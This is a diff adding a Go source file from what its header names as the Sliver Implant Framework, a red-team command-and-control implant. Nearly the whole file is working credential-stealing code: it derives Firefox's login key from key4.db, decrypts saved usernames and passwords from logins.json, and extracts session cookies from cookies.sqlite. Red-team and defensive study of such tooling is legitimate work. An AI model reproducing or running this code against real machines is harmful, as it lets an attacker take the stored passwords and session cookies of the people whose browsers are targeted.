@@ -0,0 +1,307 @@
+package browser
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"crypto/aes"
+	"crypto/cipher"
+	"crypto/des"
+	"crypto/hmac"
+	"crypto/sha1"
+	"crypto/sha256"
+	"crypto/x509/pkix"
+	"encoding/asn1"
+	"encoding/base64"
+	"encoding/json"
+	"errors"
+	"fmt"
+
+	"golang.org/x/crypto/pbkdf2"
+)
+
+// Firefox encrypts saved logins with a key stored in key4.db, which is itself
+// encrypted with a key derived from the primary password (empty by default)
+
+var (
+	oidPBEWithSHA1And3DES = asn1.ObjectIdentifier{1, 2, 840, 113549, 1, 12, 5, 1, 3}
+	oidPBES2              = asn1.ObjectIdentifier{1, 2, 840, 113549, 1, 5, 13}
+	oidPBKDF2             = asn1.ObjectIdentifier{1, 2, 840, 113549, 1, 5, 12}
+	oidHMACWithSHA256     = asn1.ObjectIdentifier{1, 2, 840, 113549, 2, 9}
+	oidAES256CBC          = asn1.ObjectIdentifier{2, 16, 840, 1, 101, 3, 4, 1, 42}
+	oidDESEDE3CBC         = asn1.ObjectIdentifier{1, 2, 840, 113549, 3, 7}
+
+	passwordCheck = []byte("password-check")
+
+	// ErrPrimaryPassword - The profile is protected by a primary password
+	ErrPrimaryPassword = errors.New("Profile is protected by a primary password")
+)
+
+// encryptedBlob - A PBE encrypted key4.db value
+type encryptedBlob struct {
+	Algorithm  pkix.AlgorithmIdentifier
+	Ciphertext []byte
+}
+
+type legacyPBEParams struct {
+	EntrySalt  []byte
+	Iterations int
+}
+
+type pbes2Params struct {
+	KDF    pkix.AlgorithmIdentifier
+	Cipher pkix.AlgorithmIdentifier
+}
+
+type pbkdf2Params struct {
+	Salt       []byte
+	Iterations int
+	KeyLength  int
+	PRF        pkix.AlgorithmIdentifier `asn1:"optional"`
+}
+
+// encryptedLogin - An encrypted username or password from logins.json
+type encryptedLogin struct {
+	KeyID      []byte
+	Cipher     pkix.AlgorithmIdentifier
+	Ciphertext []byte
+}
+
+// firefoxKey - Recover the login encryption key from the key4.db values,
+// globalSalt and check are item1/item2 of the 'password' metaData row and
+// encryptedKey is the a11 column of nssPrivate
+func firefoxKey(globalSalt []byte, check []byte, encryptedKey []byte, primaryPassword []byte) ([]byte, error) {
+	plaintext, err := decryptPBE(globalSalt, primaryPassword, check)
+	if err != nil {
+		return nil, err
+	}
+	if !bytes.HasPrefix(plaintext, passwordCheck) {
+		return nil, ErrPrimaryPassword
+	}
+	return decryptPBE(globalSalt, primaryPassword, encryptedKey)
+}
+
+func decryptPBE(globalSalt []byte, primaryPassword []byte, data []byte) ([]byte, error) {
+	blob := &encryptedBlob{}
+	if _, err := asn1.Unmarshal(data, blob); err != nil {
+		return nil, err
+	}
+	switch {
+	case blob.Algorithm.Algorithm.Equal(oidPBEWithSHA1And3DES):
+		params := &legacyPBEParams{}
+		if _, err := asn1.Unmarshal(blob.Algorithm.Parameters.FullBytes, params); err != nil {
+			return nil, err
+		}
+		key, iv := legacyPBEKey(globalSalt, primaryPassword, params.EntrySalt)
+		block, err := des.NewTripleDESCipher(key)
+		if err != nil {
+			return nil, err
+		}
+		return decryptCBC(block, iv, blob.Ciphertext)
+
+	case blob.Algorithm.Algorithm.Equal(oidPBES2):
+		params := &pbes2Params{}
+		if _, err := asn1.Unmarshal(blob.Algorithm.Parameters.FullBytes, params); err != nil {
+			return nil, err
+		}
+		if !params.KDF.Algorithm.Equal(oidPBKDF2) || !params.Cipher.Algorithm.Equal(oidAES256CBC) {
+			return nil, fmt.Errorf("Unsupported PBES2 algorithms %s/%s", params.KDF.Algorithm, params.Cipher.Algorithm)
+		}
+		kdf := &pbkdf2Params{}
+		if _, err := asn1.Unmarshal(params.KDF.Parameters.FullBytes, kdf); err != nil {
+			return nil, err
+		}
+		if len(kdf.PRF.Algorithm) != 0 && !kdf.PRF.Algorithm.Equal(oidHMACWithSHA256) {
+			return nil, fmt.Errorf("Unsupported PBKDF2 PRF %s", kdf.PRF.Algorithm)
+		}
+		var iv []byte
+		if _, err := asn1.Unmarshal(params.Cipher.Parameters.FullBytes, &iv); err != nil {
+			return nil, err
+		}
+		if len(iv) == aes.BlockSize-2 {
+			// NSS stores a 14 byte IV, the DER header of the octet string makes up the rest
+			iv = append([]byte{0x04, 0x0e}, iv...)
+		}
+		passwordHash := sha1.Sum(append(append([]byte{}, globalSalt...), primaryPassword...))
+		key := pbkdf2.Key(passwordHash[:], kdf.Salt, kdf.Iterations, kdf.KeyLength, sha256.New)
+		return decryptAESCBC(key, iv, blob.Ciphertext)
+	}
+	return nil, fmt.Errorf("Unsupported PBE algorithm %s", blob.Algorithm.Algorithm)
+}
+
+// legacyPBEKey - NSS's SHA1 based 3DES key derivation
+func legacyPBEKey(globalSalt []byte, primaryPassword []byte, entrySalt []byte) ([]byte, []byte) {
+	passwordHash := sha1.Sum(append(append([]byte{}, globalSalt...), primaryPassword...))
+	paddedSalt := make([]byte, sha1.Size)
+	copy(paddedSalt, entrySalt)
+	combinedHash := sha1.Sum(append(passwordHash[:], entrySalt...))
+
+	mac := func(data ...[]byte) []byte {
+		h := hmac.New(sha1.New, combinedHash[:])
+		for _, d := range data {
+			h.Write(d)
+		}
+		return h.Sum(nil)
+	}
+	k1 := mac(paddedSalt, entrySalt)
+	tk := mac(paddedSalt)
+	k2 := mac(tk, entrySalt)
+	k := append(k1, k2...)
+	return k[:24], k[len(k)-8:]
+}
+
+// decryptLogin - Decrypt a base64 encoded username or password from logins.json
+func decryptLogin(key []byte, value string) (string, error) {
+	data, err := base64.StdEncoding.DecodeString(value)
+	if err != nil {
+		return "", err
+	}
+	login := &encryptedLogin{}
+	if _, err := asn1.Unmarshal(data, login); err != nil {
+		return "", err
+	}
+	var iv []byte
+	if _, err := asn1.Unmarshal(login.Cipher.Parameters.FullBytes, &iv); err != nil {
+		return "", err
+	}
+	var block cipher.Block
+	switch {
+	case login.Cipher.Algorithm.Equal(oidDESEDE3CBC):
+		if len(key) < 24 {
+			return "", errors.New("Key too short")
+		}
+		block, err = des.NewTripleDESCipher(key[:24])
+	case login.Cipher.Algorithm.Equal(oidAES256CBC):
+		if len(key) < 32 {
+			return "", errors.New("Key too short")
+		}
+		block, err = aes.NewCipher(key[:32])
+	default:
+		return "", fmt.Errorf("Unsupported login cipher %s", login.Cipher.Algorithm)
+	}
+	if err != nil {
+		return "", err
+	}
+	plaintext, err := decryptCBC(block, iv, login.Ciphertext)
+	return string(plaintext), err
+}
+
+// firefoxKeyFromDB - Read and decrypt the login key from key4.db
+func firefoxKeyFromDB(data []byte, primaryPassword []byte) ([]byte, error) {
+	db, err := openSQLite(data, nil)
+	if err != nil {
+		return nil, err
+	}
+	meta, err := db.Rows("metaData")
+	if err != nil {
+		return nil, err
+	}
+	var globalSalt, check []byte
+	for _, row := range meta {
+		if row["id"] == "password" {
+			globalSalt, _ = row["item1"].([]byte)
+			check, _ = row["item2"].([]byte)
+		}
+	}
+	if check == nil {
+		return nil, errors.New("No password check entry in key4.db")
+	}
+	private, err := db.Rows("nssPrivate")
+	if err != nil {
+		return nil, err
+	}
+	var lastErr error = errors.New("No private keys in key4.db")
+	for _, row := range private {
+		encryptedKey, _ := row["a11"].([]byte)
+		if len(encryptedKey) == 0 {
+			continue
+		}
+		key, err := firefoxKey(globalSalt, check, encryptedKey, primaryPassword)
+		if err == nil {
+			return key, nil
+		}
+		lastErr = err
+	}
+	return nil, lastErr
+}
+
+// firefoxLogins - Saved passwords from logins.json
+func firefoxLogins(key []byte, data []byte) ([]Login, []string, error) {
+	saved := &struct {
+		Logins []struct {
+			Hostname          string `json:"hostname"`
+			EncryptedUsername string `json:"encryptedUsername"`
+			EncryptedPassword string `json:"encryptedPassword"`
+		} `json:"logins"`
+	}{}
+	if err := json.Unmarshal(data, saved); err != nil {
+		return nil, nil, err
+	}
+	logins := []Login{}
+	warnings := map[string]int{}
+	for _, entry := range saved.Logins {
+		username, err := decryptLogin(key, entry.EncryptedUsername)
+		if err != nil {
+			warnings[err.Error()]++
+			continue
+		}
+		password, err := decryptLogin(key, entry.EncryptedPassword)
+		if err != nil {
+			warnings[err.Error()]++
+			continue
+		}
+		logins = append(logins, Login{
+			Origin:   entry.Hostname,
+			Username: username,
+			Password: password,
+		})
+	}
+	return logins, summarizeWarnings(warnings, "password"), nil
+}
+
+// firefoxCookies - Cookies from cookies.sqlite, which are not encrypted
+func firefoxCookies(data []byte, wal []byte) ([]Cookie, error) {
+	db, err := openSQLite(data, wal)
+	if err != nil {
+		return nil, err
+	}
+	rows, err := db.Rows("moz_cookies")
+	if err != nil {
+		return nil, err
+	}
+	cookies := []Cookie{}
+	for _, row := range rows {
+		host := stringValue(row["host"])
+		expiry := intValue(row["expiry"])
+		if 1e11 < expiry {
+			expiry /= 1000 // Milliseconds in recent versions
+		}
+		cookies = append(cookies, Cookie{
+			Domain:         host,
+			HostOnly:       0 < len(host) && host[0] != '.',
+			Name:           stringValue(row["name"]),
+			Value:          stringValue(row["value"]),
+			Path:           stringValue(row["path"]),
+			Secure:         intValue(row["isSecure"]) != 0,
+			HTTPOnly:       intValue(row["isHttpOnly"]) != 0,
+			ExpirationDate: expiry,
+		})
+	}
+	return cookies, nil
+}